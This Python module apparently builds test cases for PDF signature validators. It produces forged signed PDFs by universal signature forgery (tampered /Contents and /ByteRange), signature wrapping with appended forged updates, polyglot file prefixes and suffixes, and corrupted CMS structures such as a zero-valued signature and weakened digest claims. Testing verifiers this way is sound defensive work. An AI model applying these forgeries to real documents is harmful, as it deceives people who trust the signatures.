"""Attacks on the bytes of a signed file: universal signature forgery (USF), signature wrapping (SWA), strange beginnings and ends.

Classes after Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019); ranges, ends and CMS oddities also as EU DSS and iText try them.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from asn1crypto import cms, core

from .attack_kit import (
    FORGED,
    Attack,
    Change,
    byte_range,
    cms_of,
    gap,
    of_signer,
    page_number_of,
    raw_object,
    recoded,
    size_of,
    stream,
    update,
    with_cms,
)


def _renamed(key: bytes, other: bytes) -> Change:
    """The signature's key under another name of the same length."""

    def change(pdf: bytes) -> bytes:
        place = pdf.rindex(key, 0, gap(pdf)[0] if key == b"/Contents" else len(pdf))
        return pdf[:place] + other + pdf[place + len(key) :]

    return change


def _contents(written: bytes) -> Change:
    def change(pdf: bytes) -> bytes:
        start, end = gap(pdf)
        return pdf[:start] + written.ljust(end - start) + pdf[end:]

    return change


def _range(wanted: Callable[[int, int, int], str]) -> Change:
    def change(pdf: bytes) -> bytes:
        start, end = gap(pdf)
        return byte_range(b"[" + wanted(start, end, len(pdf)).encode() + b"]")(pdf)

    return change


def _wrapped(table: bool) -> Change:
    """SWA: the second signed part moved to the end, another update between the two, with a table of its own or none."""

    def change(pdf: bytes) -> bytes:
        start, end = gap(pdf)
        head, tail = pdf[:end], pdf[end:]
        new = size_of(pdf)
        page = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % new, raw_object(pdf, page_number_of(pdf)))
        forged = update(pdf, {page_number_of(pdf): page, new: stream(FORGED)})[len(pdf) :] if table else b"\n%d 0 obj\n%s\nendobj\n" % (new, stream(FORGED))
        moved = head + b"\n" + tail + forged + b"%" + b"\n"
        ranged = byte_range(b"[0 %d %d %d]" % (start, len(moved), len(tail)))(moved)
        return ranged + tail

    return change


def _second_range(pdf: bytes) -> bytes:
    """SWA: two ranges in one dictionary; which one counts is up to the reader."""
    found = re.search(rb"/ByteRange ?\[[^\]]*\]", pdf)
    assert found is not None
    written = b"/ByteRange [0 1 2 3] " + found[0]
    spare = len(pdf) - len(pdf[: found.end()].rstrip())
    return pdf[: found.start()] + written[: len(found[0]) + spare] + pdf[found.end() :]


def _twice(pdf: bytes) -> bytes:
    """A whole other file of the same making before the signed one."""
    return pdf + pdf


def _extra_signer(signed: Any) -> None:
    signed["signer_infos"] = cms.SignerInfos([signed["signer_infos"][0], signed["signer_infos"][0].copy()])


def _no_signer(signed: Any) -> None:
    signed["signer_infos"] = cms.SignerInfos([])


def _no_certificates(signed: Any) -> None:
    signed["certificates"] = cms.CertificateSet([])


def _enveloping(signed: Any) -> None:
    """The content put into the CMS itself: it is signed well, and says nothing of the file."""
    signed["encap_content_info"] = cms.ContentInfo({"content_type": "data", "content": core.OctetString(b"%PDF-1.7")})


def _without(kind: str) -> Callable[[Any], None]:
    def edit(signer: Any) -> None:
        signer["signed_attrs"] = cms.CMSAttributes([each for each in signer["signed_attrs"] if each["type"].native != kind])

    return edit


def _algorithm(name: str) -> Callable[[Any], None]:
    def edit(signer: Any) -> None:
        signer["digest_algorithm"] = cms.DigestAlgorithm({"algorithm": name})

    return edit


def _nought(signer: Any) -> None:
    """r and s of nought, which careless libraries once took for good."""
    signer["signature"] = core.OctetString(bytes.fromhex("3006020100020100"))


def _token(edit: Callable[[bytes], bytes]) -> Callable[[Any], None]:
    """The timestamp token's bytes changed."""

    def change(signer: Any) -> None:
        token = cms.ContentInfo.load(edit(signer["unsigned_attrs"][0]["values"][0].dump()))
        signer["unsigned_attrs"] = cms.CMSAttributes([cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]})])

    return change


def token_of(pdf: bytes) -> bytes:
    """A signature's timestamp token, DER."""
    found: bytes = cms_of(pdf)["content"]["signer_infos"][0]["unsigned_attrs"][0]["values"][0].dump()
    return found


def with_token(pdf: bytes, token: bytes) -> bytes:
    """The signature with another file's timestamp token."""
    return of_signer(_token(lambda own: token))(pdf)


def _trailing_der(pdf: bytes) -> bytes:
    return with_cms(pdf, cms_of(pdf).dump() + b"\x04\x02hi")


FILE: dict[str, Attack] = {
    name: Attack(change, visible=False)
    for name, change in {
        "USF: Contents missing": _renamed(b"/Contents", b"/Xontents"),
        "USF: Contents null": _contents(b"null"),
        "USF: Contents empty": _contents(b"<>"),
        "USF: Contents nought": _contents(b"<00>"),
        "USF: Contents a name": _contents(b"/none"),
        "USF: ByteRange missing": _renamed(b"/ByteRange", b"/XyteRange"),
        "USF: ByteRange empty": byte_range(b"[]"),
        "USF: ByteRange a number": byte_range(b"0"),
        "USF: ByteRange of two": _range(lambda start, end, size: f"0 {start}"),
        "USF: ByteRange of three": _range(lambda start, end, size: f"0 {start} {end}"),
        "USF: ByteRange of six": _range(lambda start, end, size: f"0 9 9 {start - 9} {end} {size - end}"),
        "USF: ByteRange negative": _range(lambda start, end, size: f"0 {start} {end} -{size - end}"),
        "USF: ByteRange huge": _range(lambda start, end, size: f"0 {start} {end} {10**12}"),
        "USF: ByteRange overlapping": _range(lambda start, end, size: f"0 {end} {start} {size - start}"),
        "USF: ByteRange backwards": _range(lambda start, end, size: f"{end} {size - end} 0 {start}"),
        "USF: ByteRange with a hole": _range(lambda start, end, size: f"0 {start - 900} {end} {size - end}"),
        "USF: ByteRange begins late": _range(lambda start, end, size: f"9 {start - 9} {end} {size - end}"),
        "USF: ByteRange ends early": _range(lambda start, end, size: f"0 {start} {end} {size - end - 40}"),
        "USF: ByteRange of fractions": _range(lambda start, end, size: f"0 {start}.5 {end} {size - end}"),
        "SWA: another update, with a table": _wrapped(table=True),
        "SWA: another update, without": _wrapped(table=False),
        "SWA: two ranges": _second_range,
        "file twice": _twice,
        "archive before": lambda pdf: b"PK\x03\x04" + bytes(26) + pdf,
        "archive behind": lambda pdf: pdf + b"PK\x05\x06" + bytes(18),
        "page of a browser before": lambda pdf: b"<html><body>x</body><!--\n" + pdf,
        "page of a browser behind": lambda pdf: pdf + b"<html><body>x</body></html>\n%%EOF\n",
        "a second header": lambda pdf: b"%PDF-1.7\n" + pdf,
        "two ends": lambda pdf: pdf + b"startxref\n0\n%%EOF\n",
        "CMS: another signer beside": recoded(_extra_signer),
        "CMS: no signer": recoded(_no_signer),
        "CMS: no certificate": recoded(_no_certificates),
        "CMS: without the certificate's digest": of_signer(_without("signing_certificate_v2")),
        "CMS: without the message digest": of_signer(_without("message_digest")),
        "CMS: without the content type": of_signer(_without("content_type")),
        "CMS: content inside": recoded(_enveloping),
        "CMS: said to be SHA-1": of_signer(_algorithm("sha1")),
        "CMS: said to be MD5": of_signer(_algorithm("md5")),
        "CMS: signature of nought": of_signer(_nought),
        "CMS: timestamp broken": of_signer(_token(lambda token: token[:-1] + bytes([token[-1] ^ 1]))),
        "CMS: more behind it": _trailing_der,
        "CMS: cut short": lambda pdf: with_cms(pdf, cms_of(pdf).dump()[:-60]),
        "CMS: something else": lambda pdf: with_cms(pdf, core.OctetString(b"x" * 99).dump()),
    }.items()
}
"""Each is tried as it is, and, where that can be done at all, with a good document timestamp over it."""
